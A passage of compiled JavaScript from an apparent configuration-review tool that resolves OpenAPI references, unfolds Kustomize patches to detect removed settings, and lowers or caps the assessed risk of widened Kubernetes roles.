  const containers = itemsAt(pod2.node, "containers");
  const labels = entriesOf(at(root, "spec", "template", "metadata", "labels") ?? at(root, "metadata", "labels"));
  return [
    ...labels.map(([name, value]) => `${own} ${name}=${textsOf(value)[0] ?? ""}`),
    ...containers.flatMap((container2) => itemsAt(container2, "ports")).map((port) => `${own} ${textAt(port, "name") ?? ""} ${textAt(port, "containerPort") ?? ""}`),
    ...containers.filter((each) => at(each, "readinessProbe") !== void 0).map((each) => `${own} ${textAt(each, "name") ?? ""}`)
  ];
}

// src/domains/config/openapi/roots.ts
import { basename, dirname as dirname5, join as join3 } from "node:path/posix";
var MOST_ROOTS = 20;
var MOST_FOLDERS = 20;
var MOST_OTHERS = 100;
var LISTED2 = 4;
var HIGHEST = 8;
var NAMES2 = ["openapi", "swagger", "api", "index", "main", "root", "spec"];
var ENDINGS = ["yaml", "yml", "json"];
var ROOT_NAME = new RegExp(`^(?:${NAMES2.join("|")})[\\w.-]*\\.(?:${ENDINGS.join("|")})$`, "i");
var OF_API = new RegExp(`\\.(?:${ENDINGS.join("|")})$`, "i");
var TYPES2 = /* @__PURE__ */ new Set(["array", "boolean", "integer", "null", "number", "object", "string"]);
var PLACES = /* @__PURE__ */ new Set(["cookie", "header", "path", "query"]);
function isPart(file) {
  const [document] = file?.documents ?? [];
  const root = document?.root;
  if (document === void 0 || root?.kind !== "map" || isOpenApi(document) || textAt(root, "kind") !== void 0)
    return false;
  return [root, ...childrenOf2(root), ...entriesOf(root).flatMap(([, node]) => childrenOf2(node))].some(speaksOpenApi);
}
var speaksOpenApi = (node) => textAt(node, "$ref") !== void 0 || textsOf(at(node, "type")).some((type) => TYPES2.has(type)) || PLACES.has(textAt(node, "in") ?? "") || at(node, "responses")?.kind === "map" || at(node, "properties")?.kind === "map" || ["allOf", "oneOf", "anyOf"].some((keyword) => at(node, keyword)?.kind === "list") || entriesOf(at(node, "content")).some(([name]) => name.includes("/"));
async function rootsAround(parts, files2, { base, head }) {
  const known2 = new Set(files2.map(({ file }) => file.path));
  const folders = [...new Set(parts.map((path27) => dirname5(path27)))].slice(0, MOST_FOLDERS);
  const above = folders.map(foldersAbove);
  const near = new Set(above.flatMap((chain) => chain.slice(0, LISTED2)).filter((folder) => folder !== "."));
  const far = new Set(above.flat().filter((folder) => !near.has(folder)));
  const lists = await Promise.all(
    [...near].filter((folder) => !near.has(dirname5(folder))).map((folder) => head.list(folder))
  );
  const beside = lists.flat().filter((path27) => near.has(dirname5(path27)) && OF_API.test(path27));
  const named4 = beside.filter((path27) => ROOT_NAME.test(basename(path27)));
  const own = new Set(folders);
  const listed6 = named4.length > 0 ? named4 : await opening3(
    beside.filter((path27) => !own.has(dirname5(path27))),
    head
  );
  const usual = [...far].flatMap(
    (folder) => NAMES2.flatMap((name) => ENDINGS.map((ending2) => join3(folder, `${name}.${ending2}`)))
  );
  const pairs = [];
  for (const path27 of [.../* @__PURE__ */ new Set([...listed6, ...usual])].filter((each) => !known2.has(each))) {
    if (pairs.length === MOST_ROOTS) break;
    const after = await readIfApi(head, path27);
    const before3 = after && await readIfApi(base, path27);
    if (before3 && after) pairs.push({ file: { path: path27, status: "modified" }, before: before3, after });
  }
  return pairs;
}
async function opening3(paths2, head) {
  const searched = paths2.slice(0, MOST_OTHERS);
  const lines = await linesWith(head, searched, "openapi").catch(noHint) ?? [];
  return searched.filter((_, index) => /^\s*["']?openapi["']?\s*:/m.test(lines[index] ?? ""));
}
function foldersAbove(folder) {
  const parts = folder === "." ? [] : folder.split("/");
  const chain = parts.map((_, i) => parts.slice(0, parts.length - i).join("/"));
  return [...chain.slice(0, HIGHEST), "."];
}
async function readIfApi(tree, path27) {
  try {
    const text = await hintIn(tree, path27);
    const file = text === void 0 ? void 0 : parse(text, path27);
    return file?.documents.some(isOpenApi) === true ? file : void 0;
  } catch (error) {
    return noneIfUnreadable(error);
  }
}

// src/domains/config/openapi/gather.ts
var MOST_FILES3 = 4e3;
async function gatherApis(files2, input2) {
  const parts = files2.filter(({ before: before3, after }) => isPart(before3) || isPart(after)).map(({ file }) => file.path);
  const candidates = parts.length === 0 ? [] : await rootsAround(parts, files2, input2);
  const unreadable = [];
  const readers = ["base", "head"].map((side2) => {
    const known2 = new Map(files2.flatMap((pair) => parsed(side2 === "base" ? pair.before : pair.after)));
    return new Reader2(input2[side2], known2, (path27, error) => unreadable.push(unreadableFact(path27, side2, error)));
  });
  const [base, head] = readers;
  if (base === void 0 || head === void 0) return { roots: [], unreadable };
  for (const { before: before3, after } of [...files2, ...candidates]) {
    await base.gather(before3);
    await head.gather(after);
  }
  const reached = ({ before: before3, after }) => parts.some((part) => base.reaches(before3, part) || head.reaches(after, part));
  return { roots: candidates.filter(reached), unreadable };
}
var parsed = (file) => {
  const [document] = file?.documents ?? [];
  return file === void 0 || document === void 0 ? [] : [[file.path, document.root]];
};
var Reader2 = class {
  #tree;
  #known;
  #fail;
  #files = /* @__PURE__ */ new Map();
  constructor(tree, known2, fail) {
    this.#tree = tree;
    this.#known = known2;
    this.#fail = fail;
  }
  /** Reads all files that a description refers to, and those they refer to. */
  async gather(file) {
    const [document] = file?.documents ?? [];
    if (file === void 0 || document === void 0 || !isOpenApi(document)) return;
    const first = { path: file.path, root: document.root, siblings: /* @__PURE__ */ new Map() };
    const waiting = [first];
    this.#files.set(file.path, Promise.resolve(first));
    for (let next = waiting.shift(); next !== void 0; next = waiting.shift()) {
      const targets = referencesOf(next);
      if (targets.length > 0 || next !== first) claim(next);
      const from3 = next;
      waiting.push(...(await Promise.all(targets.map((path27) => this.#join(from3, path27)))).flat());
    }
  }
  /** Ties a file to one that it refers to, and gives that back where it is met for the first time. */
  async #join(file, path27) {
    const isNew = !this.#files.has(path27);
    if (isNew && this.#files.size >= MOST_FILES3) return [];
    const found = await this.#read(path27);
    if (found !== void 0) file.siblings.set(path27, found);
    return found !== void 0 && isNew ? [found] : [];
  }
  /** Whether a description refers to a file, through however many others. */
  reaches(file, part) {
    const start = originOf(file?.documents[0]?.root);
    const seen = /* @__PURE__ */ new Set();
    const waiting = start === void 0 ? [] : [start];
    for (let next = waiting.pop(); next !== void 0; next = waiting.pop()) {
      if (seen.has(next)) continue;
      if (next.path === part) return true;
      seen.add(next);
      waiting.push(...next.siblings.values());
    }
    return false;
  }
  #read(path27) {
    const known2 = this.#files.get(path27) ?? this.#load(path27);
    this.#files.set(path27, known2);
    return known2;
  }
  async #load(path27) {
    const root = this.#known.get(path27) ?? await this.#parse(path27);
    return root && { path: path27, root, siblings: /* @__PURE__ */ new Map() };
  }
  async #parse(path27) {
    try {
      const text = await this.#tree.read(path27);
      return text === void 0 ? void 0 : parse(text, path27).documents[0]?.root;
    } catch (error) {
      if (!(error instanceof Unreadable)) throw error;
      this.#fail(path27, error);
      return void 0;
    }
  }
};
function referencesOf({ root, path: path27 }) {
  const found = /* @__PURE__ */ new Set();
  const waiting = [root];
  for (let node = waiting.pop(); node !== void 0; node = waiting.pop()) {
    const target = targetOf4(textAt(node, "$ref") ?? "", path27);
    if (target !== void 0 && target.path !== path27) found.add(target.path);
    waiting.push(...childrenOf2(node));
  }
  return [...found];
}

// src/domains/config/kustomize/lost.ts
import { posix as posix3 } from "node:path";

// src/domains/config/kustomize/bases.ts
import { posix as posix2 } from "node:path";

// src/domains/config/kustomize/kustomization.ts
import { posix } from "node:path";

// src/domains/config/kustomize/json-patch.ts
var isJsonPatch = (node) => node?.kind === "list" && node.items.length > 0 && node.items.every((item) => textAt(item, "op") !== void 0 && textAt(item, "path")?.startsWith("/") === true);
function patchedObject(patch, target) {
  const group4 = textAt(target, "group");
  const version = textAt(target, "version") ?? "v1";
  const root = new Branch();
  for (const item of patch.items) {
    const value = at(item, "value");
    if (value !== void 0 && textAt(item, "op") !== "test") root.put(pointerOf(textAt(item, "path") ?? ""), value);
  }
  const { line, endLine } = patch;
  const text = (value) => ({ kind: "scalar", text: value, value, line, endLine: line, ...LEAF, contentLine: line });
  root.put(["apiVersion"], text(group4 === void 0 || group4 === "" ? version : `${group4}/${version}`));
  for (const [key3, path27] of NAMED) {
    const named4 = textAt(target, key3);
    if (named4 !== void 0) root.put(path27, text(named4));
  }
  return root.node(line, endLine);
}
var LEAF = { size: 1, depth: 1 };
var NAMED = [
  ["kind", ["kind"]],
  ["name", ["metadata", "name"]],
  ["namespace", ["metadata", "namespace"]]
];
var pointerOf = (pointer) => pointer.split("/").slice(1, DEEPEST2).map((part) => part.replaceAll("~1", "/").replaceAll("~0", "~"));
var DEEPEST2 = 50;
var Branch = class _Branch {
  #below = /* @__PURE__ */ new Map();
  put([key3 = "", ...rest], value) {
    if (rest.length === 0) {
      this.#below.set(key3, value);
      return;
    }
    const known2 = this.#below.get(key3);
    const branch = known2 instanceof _Branch ? known2 : new _Branch();
    if (known2 !== void 0 && !(known2 instanceof _Branch))
      for (const [name, node] of entriesOf(known2)) branch.put([name], node);
    this.#below.set(key3, branch);
    branch.put(rest, value);
  }
  node(line, endLine) {
    return mapOf(new Map([...this.#below].map(([key3, below6]) => [key3, grown2(below6)])), line, endLine);
  }
  /** Keys that are all places of a list make one. */
  get isList() {
    return [...this.#below.keys()].every((key3) => /^(?:\d+|-)$/.test(key3));
  }
};
function grown2(below6) {
  if (!(below6 instanceof Branch)) return below6;
  const map5 = below6.node(1, 1);
  const children2 = [...map5.entries.values()];
  const line = Math.min(...children2.map((child) => child.line));
  const endLine = Math.max(...children2.map((child) => child.endLine));
  if (!below6.isList) return { ...map5, line, endLine };
  return { kind: "list", items: children2, line, endLine, ...measured(children2) };
}

// src/domains/config/kustomize/removals.ts
var TAKING = { remove: "path", move: "from" };
function removalsOfOperations(patch) {
  return patch.items.flatMap((item, index) => {
    const pointer = textAt(item, TAKING[textAt(item, "op") ?? ""] ?? "");
    if (pointer === void 0) return [];
    const isWritten2 = patch.items.slice(index + 1).some((later) => at(later, "value") && textAt(later, "path") === pointer);
    return isWritten2 ? [] : [{ path: pointerOf(pointer), line: item.line, endLine: item.endLine }];
  });
}
function removalsOfMerge(node, path27 = []) {
  if (node.kind === "list") return removalsOfList(node, path27);
  if (node.kind === "map") return removalsOfMap(node, path27);
  return node.value === null && path27.length > 0 ? [{ path: path27, line: node.line, endLine: node.line }] : [];
}
function removalsOfMap(node, path27) {
  const { line, endLine } = at(node, DIRECTIVE) ?? node;
  const directive = textAt(node, DIRECTIVE);
  if (directive === "delete") return [{ path: path27, line, endLine }];
  if (directive === "replace") return [{ path: path27, line, endLine, instead: withoutDirective(node) }];
  return entriesOf(node).flatMap(([key3, below6]) => removalsOfMerge(below6, [...path27, key3]));
}
var DIRECTIVE = "$patch";
function removalsOfList(list, path27) {
  const marker = list.items.find((item) => item.kind === "map" && item.entries.size === 1 && at(item, DIRECTIVE));
  if (textAt(marker, DIRECTIVE) === "replace") {
    const { line, endLine } = marker ?? list;
    return [{ path: path27, line, endLine, instead: { ...list, items: list.items.filter((item) => item !== marker) } }];
  }
  return list.items.flatMap((item) => {
    const name = textAt(item, "name");
    return name === void 0 ? [] : removalsOfMerge(item, [...path27, `name=${name}`]);
  });
}
var withoutDirective = (node) => mapOf(new Map(entriesOf(node).filter(([key3]) => key3 !== DIRECTIVE)), node.line, node.endLine);
function without3(node, path27, instead) {
  const [step2 = "", ...rest] = path27;
  if (node.kind === "scalar") return void 0;
  const place2 = node.kind === "list" ? placeIn(node, step2) : void 0;
  const left = changed2(node.kind === "list" ? node.items[place2 ?? 0] : at(node, step2), rest, instead);
  if (left === void 0) return void 0;
  if (node.kind === "list")
    return { ...node, items: node.items.flatMap((item, index) => index === place2 ? left : [item]) };
  const entries = [...node.entries].flatMap(
    ([key3, value]) => (key3 === step2 ? left : [value]).map((below6) => [key3, below6])
  );
  return { ...node, entries: new Map(entries) };
}
function changed2(node, rest, instead) {
  if (node === void 0) return void 0;
  if (rest.length === 0) return instead === void 0 ? [] : [instead];
  const left = without3(node, rest, instead);
  return left && [left];
}
var placeIn = (list, step2) => /^\d+$/.test(step2) ? Number(step2) : list.items.findIndex((item) => `name=${textAt(item, "name") ?? ""}` === step2);

// src/domains/config/kustomize/kustomization.ts
var API = /^kustomize\.(?:config\.k8s\.io|toolkit\.fluxcd\.io)\//;
var FILE_NAMES = ["kustomization.yaml", "kustomization.yml", "Kustomization"];
var FILE = /(?:^|\/)(?:kustomization\.ya?ml|Kustomization)$/;
var PATCHES = ["patches", "patchesStrategicMerge", "patchesJson6902"];
var isKustomization = (root, path27) => root.kind === "map" && (FILE.test(path27) || API.test(textAt(root, "apiVersion") ?? ""));
function unfold(root) {
  const spec = at(root, "spec");
  const holder = spec !== void 0 && PATCHES.some((key3) => at(spec, key3)) ? spec : root;
  const entries = PATCHES.flatMap((key3) => itemsAt(holder, key3));
  const patches = [...entries.flatMap(inlinePatch), ...itemsAt(root, "replicas").flatMap(replicaPatch)];
  return { root: withoutInline(root), patches };
}
function inlinePatch(entry4) {
  const written2 = entry4.kind === "scalar" ? entry4 : at(entry4, "patch");
  const patch = written2?.kind === "scalar" ? nestedIn(written2) : written2;
  return patch === void 0 ? [] : [partialOf(patch, at(entry4, "target"))];
}
var partialOf = (patch, target) => isJsonPatch(patch) ? { root: patchedObject(patch, target), removals: removalsOfOperations(patch) } : { root: withTarget(patch, target), removals: removalsOfMerge(patch) };
function withTarget(patch, target) {
  if (patch.kind !== "map" || textAt(patch, "kind") !== void 0 || target === void 0) return patch;
  const named4 = patchedObject(
    { kind: "list", items: [], line: patch.line, endLine: patch.endLine, size: 1, depth: 1 },
    target
  );
  return mapOf(new Map([...named4.entries, ...patch.entries]), patch.line, patch.endLine);
}
function replicaPatch(entry4) {
  const [name, count3] = [at(entry4, "name"), at(entry4, "count")];
  if (name === void 0 || count3 === void 0) return [];
  const text = (value) => ({ ...name, kind: "scalar", text: value, value, contentLine: name.line });
  const map5 = (entries) => mapOf(new Map(entries), entry4.line, entry4.endLine);
  const root = map5([
    ["apiVersion", text("apps/v1")],
    ["kind", text("Deployment")],
    ["metadata", map5([["name", name]])],
    ["spec", map5([["replicas", count3]])]
  ]);
  return [{ root, removals: [] }];
}
function withoutInline(root) {
  if (root.kind !== "map") return root;
  const entries = [...root.entries].flatMap(([key3, node]) => {
    if (key3 === "replicas") return [];
    if (key3 === "spec") return [[key3, withoutInline(node)]];
    return [
      [
        key3,
        PATCHES.some((name) => name === key3) && node.kind === "list" ? { ...node, items: node.items.flatMap(bare) } : node
      ]
    ];
  });
  return { ...root, entries: new Map(entries) };
}
function bare(entry4) {
  if (entry4.kind === "scalar") return nestedIn(entry4) === void 0 ? [entry4] : [];
  if (entry4.kind !== "map" || inlinePatch(entry4).length === 0) return [entry4];
  return [{ ...entry4, entries: new Map(entriesOf(entry4).filter(([key3]) => key3 !== "patch")) }];
}
function patchFiles(root, folder) {
  const found = /* @__PURE__ */ new Map();
  for (const entry4 of PATCHES.flatMap((key3) => itemsAt(root, key3))) {
    const path27 = entry4.kind === "scalar" ? entry4.text : textAt(entry4, "path");
    if (path27 !== void 0 && !path27.includes("\n")) found.set(posix.join(folder, path27), at(entry4, "target"));
  }
  return found;
}

// src/domains/config/kustomize/bases.ts
var LISTS2 = ["resources", "components", "bases"];
var MOST_FILES4 = 200;
var listedIn = (root, folder) => LISTS2.flatMap((key3) => itemsAt(root, key3)).flatMap(
  (node) => textsOf(node).flatMap(
    (entry4) => /^[\w-]+:|\?ref=|^\//.test(entry4) ? [] : [{ path: posix2.join(folder, entry4), node }]
  )
);
var pathsOf = (listed6) => listed6.map(({ path: path27 }) => path27);
var Bases = class {
  #tree;
  #known = /* @__PURE__ */ new Map();
  #below = /* @__PURE__ */ new Map();
  constructor(tree) {
    this.#tree = tree;
  }
  /** The objects of files, and of the kustomizations in folders, that some paths name; what names itself is read once. */
  async objectsAt(paths2, seen = /* @__PURE__ */ new Set()) {
    const fresh = [...new Set(paths2)].filter((path27) => !seen.has(path27));
    for (const path27 of fresh) seen.add(path27);
    const found = await Promise.all(fresh.map((path27) => this.#objectsOf(path27, seen)));
    return found.flat();
  }
  /** The objects that the kustomization of a folder builds upon. */
  objectsBelow(folder) {
    const known2 = this.#below.get(folder) ?? this.objectsAt([folder]);
    this.#below.set(folder, known2);
    return known2;
  }
  async #objectsOf(path27, seen) {
    if (/\.(?:ya?ml|json)$/i.test(path27)) return this.#documentsIn(path27);
    for (const name of FILE_NAMES) {
      const file = posix2.join(path27, name);
      const [kustomization] = await this.#documentsIn(file);
      if (kustomization !== void 0 && isKustomization(kustomization.root, file))
        return this.objectsAt(pathsOf(listedIn(kustomization.root, path27)), seen);
    }
    return [];
  }
  #documentsIn(path27) {
    const known2 = this.#known.get(path27);
    if (known2 !== void 0) return known2;
    const read3 = this.#known.size < MOST_FILES4 ? this.#read(path27) : Promise.resolve([]);
    this.#known.set(path27, read3);
    return read3;
  }
  async #read(path27) {
    try {
      const text = await hintIn(this.#tree, path27);
      return text === void 0 ? [] : parse(text, path27).documents;
    } catch (error) {
      return noneIfUnreadable(error) ?? [];
    }
  }
};

// src/domains/config/kustomize/stand-in.ts
var CONTAINER = `name: web
image: web
readinessProbe: { httpGet: { path: /, port: 80 } }
livenessProbe: { httpGet: { path: /, port: 80 } }
startupProbe: { httpGet: { path: /, port: 80 } }
lifecycle: { preStop: { exec: { command: [sleep, '5'] } } }
resources:
  requests: { cpu: 100m, memory: 64Mi }
  limits: { cpu: '1', memory: 512Mi }
securityContext:
  runAsNonRoot: true
  readOnlyRootFilesystem: true
  allowPrivilegeEscalation: false
  capabilities: { drop: [ALL] }
  seccompProfile: { type: RuntimeDefault }`;
var POD = `automountServiceAccountToken: false
securityContext: { runAsNonRoot: true, seccompProfile: { type: RuntimeDefault } }
affinity:
  podAntiAffinity:
    requiredDuringSchedulingIgnoredDuringExecution:
    - { topologyKey: kubernetes.io/hostname, labelSelector: { matchLabels: { app: web } } }
topologySpreadConstraints:
- { maxSkew: 1, topologyKey: topology.kubernetes.io/zone, whenUnsatisfiable: DoNotSchedule }
containers:
- ${CONTAINER.replaceAll("\n", "\n  ")}
initContainers:
- ${CONTAINER.replaceAll("\n", "\n  ")}`;
var indented2 = (text, by) => text.replaceAll(/^/gm, " ".repeat(by));
var TEMPLATE2 = `template:
  spec:
${indented2(POD, 4)}`;
var WORKLOAD = `spec:
  replicas: 3
${indented2(TEMPLATE2, 2)}`;
var SPECS = {
  Deployment: WORKLOAD,
  StatefulSet: WORKLOAD,
  ReplicaSet: WORKLOAD,
  DaemonSet: WORKLOAD,
  Job: WORKLOAD,
  CronJob: `spec:
  jobTemplate:
    spec:
${indented2(TEMPLATE2, 6)}`,
  Pod: `spec:
${indented2(POD, 2)}`
};
function standInFor(patch, path27) {
  const place2 = path27.findIndex((_, index) => LISTS3.has(path27[index - 1] ?? ""));
  const isOfPod = place2 < 0 && path27.includes("securityContext");
  const spec = at(parse(SPECS[textAt(patch, "kind") ?? ""] ?? "spec: {}", "").documents[0]?.root, "spec");
  const named4 = spec && renamed(isOfPod ? withoutOwnSecurity(spec) : spec, calledIn(path27[place2]));
  const own = ["apiVersion", "kind", "metadata"].flatMap((key3) => entry3(key3, at(patch, key3)));
  return {
    root: mapOf(new Map([...own, ...entry3("spec", named4)]), patch.line, patch.endLine),
    path: path27.map((step2, index) => index === place2 ? "0" : step2)
  };
}
var LISTS3 = /* @__PURE__ */ new Set(["containers", "initContainers"]);
var calledIn = (step2 = "*") => step2.startsWith("name=") ? step2.slice("name=".length) : `containers[${step2}]`;
var entry3 = (key3, node) => node === void 0 ? [] : [[key3, node]];
function withoutOwnSecurity(node) {
  if (node.kind === "list") return { ...node, items: node.items.map(withoutOwnSecurity) };
  if (node.kind === "scalar") return node;
  const isContainer = node.entries.has("image");
  const entries = [...node.entries].filter(([key3]) => !isContainer || key3 !== "securityContext");
  return { ...node, entries: new Map(entries.map(([key3, below6]) => [key3, withoutOwnSecurity(below6)])) };
}
function renamed(node, name) {
  if (node.kind === "list") return { ...node, items: node.items.map((item) => renamed(item, name)) };
  if (node.kind === "scalar") return node;
  const entries = [...node.entries].map(
    ([key3, below6]) => [
      key3,
      key3 === "name" && below6.kind === "scalar" ? { ...below6, text: name, value: name } : renamed(below6, name)
    ]
  );
  return { ...node, entries: new Map(entries) };
}

// src/domains/config/kustomize/lost.ts
async function lostFacts(pairs, { base, head }, judge) {
  const before3 = pairs.flatMap((pair) => takenIn(pair.before));
  const after = pairs.flatMap((pair) => takenIn(pair.after));
  const { removed: removed2, added: added2 } = compare(before3, after, senseOf2);
  const [lost, restored] = await Promise.all([
    factsOf(added2.filter(isOfKept), new Bases(head), judge),
    factsOf(removed2.filter(isOfKept), new Bases(base), (sides) => judge(sides.map(reverse)))
  ]);
  return [
    ...lost.map(({ fact: fact4, place: place2 }) => ({ ...fact4, after: place2 })),
    ...restored.map(({ fact: fact4, place: place2 }) => ({ ...fact4, before: place2 }))
  ];
}
var reverse = ({ before: before3, after }) => ({ before: after, after: before3 });
var takenIn = (file) => (file?.documents ?? []).flatMap((patch) => (patch.removals ?? []).map((removal4) => ({ patch, removal: removal4 })));
var isOfKept = ({ patch }) => patch.isOfNewOverlay !== true;
function senseOf2({ patch, removal: { path: path27, instead } }) {
  const whom = [kindOf(patch), namespaceOf(patch), nameOf2(patch)];
  return JSON.stringify([...whom, path27, instead && signature(instead)]);
}
var MOST_REMOVALS = 500;
async function factsOf(taken, bases, judge) {
  const facts = await Promise.all(
    taken.slice(0, MOST_REMOVALS).map(async (each) => {
      const place2 = placeOf(each);
      return (await factOf4(each, bases, judge)).map((fact4) => ({ fact: fact4, place: place2 }));
    })
  );
  return facts.flat();
}
async function factOf4(taken, bases, judge) {
  const { patch, removal: removal4 } = taken;
  const real = await objectsOf(patch, bases);
  const facts = real.flatMap(({ root }) => judge(sidesOf2(taken, root, removal4.path)));
  if (real.length > 0) return facts.slice(0, 1).map((fact5) => told2(fact5, taken));
  const standIn = standInFor(patch.root, removal4.path);
  const [fact4] = judge(sidesOf2(taken, standIn.root, standIn.path));
  return fact4 === void 0 ? [] : [unknown(told2(fact4, taken), removal4)];
}
async function objectsOf(patch, bases) {
  const [kind, name] = [kindOf(patch), nameOf2(patch)];
  let folder = posix3.dirname(patch.path);
  for (let level3 = 0; level3 < LEVELS; level3++, folder = posix3.dirname(folder)) {
    const found = await bases.objectsBelow(folder);
    const meant = found.filter((each) => kindOf(each) === kind && (name === void 0 || nameOf2(each) === name));
    if (meant.length > 0) return meant;
  }
  return [];
}
var LEVELS = 3;
function sidesOf2({ patch, removal: removal4 }, object2, path27) {
  const { path: file, isTemplate: isTemplate3 } = patch;
  const documentOf2 = (root) => ({ path: file, isTemplate: isTemplate3, duplicates: [], root });
  if (path27.length === 0) return [{ before: documentOf2(object2), after: removal4.instead && documentOf2(removal4.instead) }];
  const left = without3(object2, path27, removal4.instead);
  return left === void 0 ? [] : [{ before: documentOf2(object2), after: documentOf2(left) }];
}
var placeOf = ({ patch, removal: { line, endLine } }) => ({
  path: patch.path,
  line,
  ...endLine > line ? { endLine } : {}
});
function told2({ before: _before, after: _after, ...fact4 }, { patch, removal: removal4 }) {
  const [object2, path27] = [`${kindOf(patch)}/${nameOf2(patch) ?? "*"}`, displayPath(removal4.path.map(stepOf))];
  return { ...fact4, subject: path27 === "" ? object2 : `${object2}: ${path27}` };
}
function unknown(fact4, { path: path27 }) {
  if (fact4.kind !== "control-moved") return fact4;
  const { from: _from, to: _to, ...rest } = fact4;
  return { ...rest, name: path27.findLast((step2) => !isItem(step2)) ?? fact4.name };
}
var isItem = (step2) => /^\d+$|^name=/.test(step2);
var stepOf = (step2) => isItem(step2) ? { kind: "item", label: step2 } : { kind: "key", name: step2 };

// src/domains/config/kustomize/patches.ts
import { posix as posix4 } from "node:path";
async function withPatches(pairs, { base, head }) {
  const [before3, after] = [patchReader(base), patchReader(head)];
  return Promise.all(
    pairs.map(async (pair) => ({
      ...pair,
      before: pair.before && await unfolded(pair.before, before3, head),
      after: pair.after && await unfolded(pair.after, after, base)
    }))
  );
}
async function unfolded(file, patchesAround, other) {
  if (!file.documents.some(({ root, path: path27 }) => isKustomization(root, path27) || mayBePatch(root))) return file;
  const listed6 = await patchesAround(file.path);
  const isOverlay = file.documents.some(({ root, path: path27 }) => isKustomization(root, path27));
  const isPatched = isOverlay || listed6.has(file.path);
  const isNew = isPatched && !await isKustomized(other, isOverlay ? [posix4.dirname(file.path)] : foldersOf(file.path));
  const mark2 = { isPatch: true, ...isNew ? { isOfNewOverlay: true } : {} };
  const documents2 = file.documents.flatMap((document) => {
    if (isKustomization(document.root, file.path)) {
      const { root, patches } = unfold(document.root);
      return [{ ...document, root }, ...patches.map((patch) => ({ ...document, ...patch, duplicates: [], ...mark2 }))];
    }
    const isOperations = isJsonPatch(document.root);
    if (!listed6.has(file.path) && (isOperations || !isPartial(document))) return [document];
    return [{ ...document, ...partialOf(document.root, listed6.get(file.path)), ...mark2 }];
  });
  return { ...file, documents: documents2, several: file.several || documents2.length > 1 };
}
var mayBePatch = (root) => isJsonPatch(root) || textAt(root, "apiVersion") !== void 0 && textAt(root, "kind") !== void 0;
var NAMED_PATCH = /(?:^|[/_.-])patch(?:es)?(?:[/_.-]|$)/i;
var isPartial = ({ root, path: path27 }) => NAMED_PATCH.test(path27) && at(root, "spec", "selector") === void 0;
function patchReader(tree) {
  const known2 = /* @__PURE__ */ new Map();
  const patchesIn = (folder) => {
    const found = known2.get(folder) ?? patchesOf(tree, folder);
    known2.set(folder, found);
    return found;
  };
  return async (path27) => {
    const found = await Promise.all(foldersOf(path27).map(patchesIn));
    return new Map(found.flatMap((patches) => [...patches]));
  };
}
var foldersOf = (path27) => [
  ...new Set([path27, posix4.dirname(path27), posix4.dirname(posix4.dirname(path27))].map((each) => posix4.dirname(each)))
];
async function isKustomized(tree, folders) {
  const paths2 = folders.flatMap((folder) => FILE_NAMES.map((name) => posix4.join(folder, name)));
  const texts = await Promise.all(paths2.map((path27) => hintIn(tree, path27)));
  return texts.some((text) => text !== void 0);
}
async function patchesOf(tree, folder) {
  for (const name of FILE_NAMES) {
    const path27 = posix4.join(folder, name);
    const root = await rootOf(tree, path27);
    if (root !== void 0) return patchFiles(root, folder);
  }
  return /* @__PURE__ */ new Map();
}
async function rootOf(tree, path27) {
  try {
    const text = await hintIn(tree, path27);
    return text === void 0 ? void 0 : parse(text, path27).documents[0]?.root;
  } catch (error) {
    return noneIfUnreadable(error);
  }
}

// src/domains/config/kustomize/unlisted.ts
import { posix as posix5 } from "node:path";
async function unlistedFacts(pairs, { base, head, changed: changed4 }, judge) {
  const taken = new Set(pairs.flatMap(({ after }) => entriesOf2(kustomizationIn(after))).map(({ path: path27 }) => path27));
  const told5 = new Set(changed4.flatMap(({ path: path27, previousPath = path27 }) => [path27, previousPath]));
  const [old, now] = [new Bases(base), new Bases(head)];
  const found = pairs.flatMap((pair) => unlistedIn(pair, taken)).map(async ({ before: before3, after, entries }) => {
    const built = new Set((await now.objectsBelow(posix5.dirname(after.path))).map(identityOf2));
    const listed6 = await Promise.all(
      entries.map(async (entry4) => (await old.objectsAt([entry4.path])).map((object2) => ({ entry: entry4, object: object2 })))
    );
    const gone3 = listed6.flat().filter(({ object: object2 }) => !built.has(identityOf2(object2)) && !told5.has(object2.path));
    const facts = judge(gone3.map(({ object: object2 }) => ({ before: object2 }))).filter(
      ({ kind }) => kind === "guard-removed"
    );
    return facts.map((fact4) => {
      const entry4 = gone3.find(({ object: object2 }) => object2.path === fact4.before?.path)?.entry;
      return { ...fact4, ...placed2(before3, entry4, after), group: `${after.path} ${entry4?.path ?? ""}` };
    });
  });
  return (await Promise.all(found)).flat();
}
var placed2 = (before3, entry4, { path: path27, root: { line } }) => ({
  before: { path: before3.path, line: (entry4?.node ?? before3.root).line },
  after: { path: path27, line }
});
function unlistedIn(pair, taken) {
  const [before3, after] = [kustomizationIn(pair.before), kustomizationIn(pair.after)];
  if (before3 === void 0 || after === void 0) return [];
  const entries = entriesOf2(before3).filter(({ path: path27 }) => !taken.has(path27));
  return entries.length === 0 ? [] : [{ before: before3, after, entries }];
}
var kustomizationIn = (file) => file?.documents.find(({ root, path: path27 }) => isKustomization(root, path27));
var entriesOf2 = (document) => document === void 0 ? [] : listedIn(document.root, posix5.dirname(document.path));
var identityOf2 = (document) => [groupOf(document), kindOf(document), namespaceOf(document), nameOf2(document)].join("/");

// src/domains/config/kubernetes/role-modifiers.ts
var forRoles = (id, steps2, noteFor) => ({
  id,
  adjust(change, risk) {
    const note = change.kind === "role-widened" ? noteFor(change, risk) : void 0;
    return note === void 0 ? void 0 : { risk: shiftRisk(risk, steps2), note };
  }
});
var MITIGATED = {
  part: { cap: "info", note: "Information only, for it is a part of objects that were open to the role before." },
  "own-group": { cap: "low", note: "Not more than low, for objects of that API group are the business of the role." },
  held: { cap: "low", note: "Not more than low, for the role could do as much through other objects before." },
  "all-verbs": { cap: "medium", note: "Not more than medium, for it did everything to other objects of the group." },
  notes: { cap: "low", note: "Not more than low, for there controllers note what became of an object." },
  scaling: { note: "One step lower, for it only decides how many pods there are, or which of them leads." },
  "custom-reads": { note: "One step lower, for it only reads, and custom objects keep no secrets." },
  health: { cap: "low", note: "Not more than low, for everybody in a cluster may ask that by default." },
  whereabouts: { note: "One step lower, for it tells where things run, and little more." }
};
function mitigated2(risk, mitigation) {
  const { cap, note } = MITIGATED[mitigation];
  return { risk: cap === void 0 ? shiftRisk(risk, -1) : capRisk(risk, cap), note };
}
var roleModifiers = [
  forRoles("new-role", -1, ({ isNew }) => isNew ? "One step lower, for the role is new." : void 0),
  forRoles(
    "taken-over",
    -1,
    ({ isTakenOver: isTakenOver2 }) => isTakenOver2 === true ? "One step lower, for another role of this change gives it up." : void 0
  ),
  forRoles(
    "narrower-role",
